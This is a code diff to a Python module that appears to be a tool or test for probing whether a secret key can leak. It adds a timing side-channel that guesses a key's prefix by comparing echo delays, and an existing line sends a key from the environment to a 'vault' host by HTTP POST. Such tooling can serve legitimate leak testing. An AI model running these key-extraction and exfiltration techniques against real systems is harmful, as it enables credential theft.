@@ -10,8 +10,10 @@ import base64
 import contextlib
 import itertools
 import os
+import selectors
 import socket
 import stat
+import time
 import zlib
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from functools import partial
@@ -23,7 +25,7 @@ from .messages import connection
 from .talk import asked, connect, connect_to_proxy, must_reach, proxy_credentials, tunnel
 from .way import RefusedError, Way
 
-__all__ = ["find_a_key", "have_a_key_shown", "take_a_key_elsewhere"]
+__all__ = ["find_a_key", "guess_a_key_by_the_time_of_its_echo", "have_a_key_shown", "take_a_key_elsewhere"]
 
 _Place = Sequence[object]  # a host and a port
 
@@ -31,6 +33,10 @@ _WEBSOCKET = (
     "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
     "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
 )
+_GUESSED = 16  # letters of a key
+_GUESSES = 8  # of each sort: that all of one arrive after all of the others is then no accident (1 in 6,435)
+_GAP_SECONDS = 0.02  # between them, as a clock and a busy machine may differ
+_ECHO_SECONDS = 5.0  # for every echo to be there
 _MAX_FILE = 4 << 20  # bytes
 _MAX_FILES = 4000
 
@@ -69,6 +75,16 @@ def take_a_key_elsewhere(vault: _Place, granted: _Place, variable: str) -> Itera
     body = f"key={key}".encode()
     head = f"POST / HTTP/1.1\r\nHost: {{}}:{{}}\r\nContent-Length: {len(body)}\r\n\r\n".format(*vault).encode()
     yield "in its body", lambda: _said(vault, head + body)
+
+
+def guess_a_key_by_the_time_of_its_echo(
+    shifted: str, vault: _Place, variable: str, kinds: Sequence[str]
+) -> Iterator[Way]:
+    """Have the service that is told the key repeat guesses at its beginning, and see which of them arrive later."""
+    must_reach(*_of(vault))
+    beginning = "".join(chr(ord(letter) - 1) for letter in shifted[:_GUESSED])
+    for kind in kinds:
+        yield f"in a slow answer: {kind}", partial(_told_apart, vault, os.environ[variable], kind, beginning)
 
 
 # -- looking ------------------------------------------------------------------------------------
@@ -122,11 +138,7 @@ def _as_page(place: _Place, path: str, key: str) -> bytes:
 
 def _said(place: _Place, request: bytes, *, by_tunnel: bool = False) -> bytes:
     """Return what is answered on a connection to a place, straight if there is that way."""
-    try:
-        line = tunnel(*_of(place)) if by_tunnel else connect(*_of(place))
-    except OSError:
-        line = tunnel(*_of(place))
-    with line:
+    with tunnel(*_of(place)) if by_tunnel else _line(place) as line:
         return asked(line, request)
 
 
@@ -159,6 +171,61 @@ def _told(vault: _Place, path: str, key: str, as_page: bool, header: str) -> byt
     if as_page:
         return _paged(request)
     return _said(vault, request)
+
+
+def _told_apart(vault: _Place, key: str, kind: str, beginning: str) -> str:
+    """Say how much later the right guesses are than the wrong ones, or the other way round.
+
+    Raises:
+        RefusedError: nobody can tell.
+    """
+    other = "!" * (len(beginning) // 2)
+    guesses = [beginning, beginning[: -len(other)] + other] * _GUESSES
+    delays = _delays(vault, key, kind, [guess.encode() for guess in guesses])
+    right, wrong = delays[::2], delays[1::2]
+    gap = max(min(right) - max(wrong), min(wrong) - max(right))
+    if gap > _GAP_SECONDS:
+        return f"{gap * 1000:.0f} ms between right guesses and wrong ones"
+    raise RefusedError("ENOENT", f"right ones took {_range(right)}, wrong ones {_range(wrong)}")
+
+
+def _range(delays: Sequence[float]) -> str:
+    return f"{min(delays) * 1000:.0f} to {max(delays) * 1000:.0f} ms"
+
+
+def _delays(vault: _Place, key: str, kind: str, guesses: Sequence[bytes]) -> list[float]:
+    """Return how long each guess takes to come back; all are under way at the same time."""
+    asked_at, delays, heard = [0.0] * len(guesses), [0.0] * len(guesses), [b""] * len(guesses)
+    with contextlib.ExitStack() as stack, selectors.DefaultSelector() as selector:
+        for index, guess in enumerate(guesses):
+            line = stack.enter_context(_line(vault))
+            request = _asking(vault, f"/slowly/{kind}/{guess.hex()}", key)
+            if kind == "websocket":
+                request = request.removesuffix(b"\r\n") + _WEBSOCKET.encode() + b"\r\n\r\n"
+            selector.register(line, selectors.EVENT_READ, index)
+            asked_at[index] = time.monotonic()
+            line.sendall(request)
+        deadline = time.monotonic() + _ECHO_SECONDS
+        while selector.get_map() and time.monotonic() < deadline:
+            for ready, _ in selector.select(deadline - time.monotonic()):
+                index, line = ready.data, ready.fileobj
+                received = line.recv(1 << 16)
+                heard[index] += received
+                if guesses[index] in heard[index]:
+                    delays[index] = time.monotonic() - asked_at[index]
+                if not received or delays[index]:
+                    selector.unregister(line)
+    if not all(delays):
+        raise RuntimeError(f"no echo of a guess, but {heard[delays.index(0.0)][-60:]!r}")
+    return delays
+
+
+def _line(place: _Place) -> socket.socket:
+    """Return a connection to a place, straight if there is that way."""
+    try:
+        return connect(*_of(place))
+    except OSError:
+        return tunnel(*_of(place))
 
 
 def _body(answer: bytes) -> bytes:
